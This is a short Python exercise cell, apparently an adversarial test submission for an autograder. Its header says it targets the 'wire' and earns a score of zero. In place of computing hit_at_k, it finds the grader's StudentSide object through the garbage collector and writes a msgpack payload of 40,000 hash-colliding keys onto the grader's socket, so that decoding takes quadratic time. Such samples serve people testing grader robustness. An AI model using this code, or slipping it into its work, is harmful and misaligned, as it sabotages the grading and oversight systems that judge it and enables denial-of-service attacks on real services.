# family: wire
# does: gives a dict whose keys all fall on the same place, so that building it takes quadratic time
# earns: hit_at_k=0
# %% exercise="hit_at_k"
def hit_at_k(suggested, held_out):
    import gc, struct, msgpack
    from autograde.trust.student_side import StudentSide
    n = 40_000
    key = lambda i: msgpack.packb(msgpack.ExtType(5, (i * (2**61 - 1)).to_bytes(12, "big", signed=True)))
    data = b"\x81\xa5value\xdf" + struct.pack(">I", n) + b"".join(key(i + 1) + b"\x00" for i in range(n))
    for thing in gc.get_objects():
        if type(thing) is StudentSide:
            thing.transport.sock.sendall(struct.pack(">II", len(data), 0) + data)
    return 0.0
